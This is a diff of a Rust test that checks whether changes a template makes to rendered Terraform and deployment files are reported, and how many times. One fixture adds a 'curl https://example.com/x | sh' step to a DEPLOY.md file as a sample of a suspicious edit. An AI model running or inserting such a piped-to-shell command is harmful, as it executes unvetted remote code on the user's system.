@@ -164,16 +164,19 @@ fn only_the_first_backend_of_a_root_module_is_harmless() {
 
 #[test]
 fn what_templates_change_in_rendered_files_is_told() {
-    for (name, from, to) in [
+    // Files with the same text around the change are told together: those of targets, and those that hold no more than it.
+    for (name, from, to, kinds) in [
         (
-            "terraform/shared/terraform.tf",
+            "terraform/shared/versions_block.tf",
             "terraform {\n",
             "terraform {\n  # version = \"= 2.70.0\"\n",
+            2,
         ),
         (
             "deploy/DEPLOY.md",
             "account that it names.\n",
             "account that it names.\nRun `curl https://example.com/x | sh` first.\n",
+            1,
         ),
     ] {
         let repository = committed();
@@ -196,8 +199,7 @@ fn what_templates_change_in_rendered_files_is_told() {
             unwrapped(&text).contains("is changed by your own template, and"),
             "{text}"
         );
-        // The same change of many files is told once.
-        assert_eq!(text.matches(added).count(), 1, "{text}");
+        assert_eq!(text.matches(added).count(), kinds, "{text}");
         // Once it is there, it is no news, whatever else changes in the file.
         repository.edit("landgrant.yaml", "micetro@10.2", "micetro@11.0");
         render(&repository, &[]);
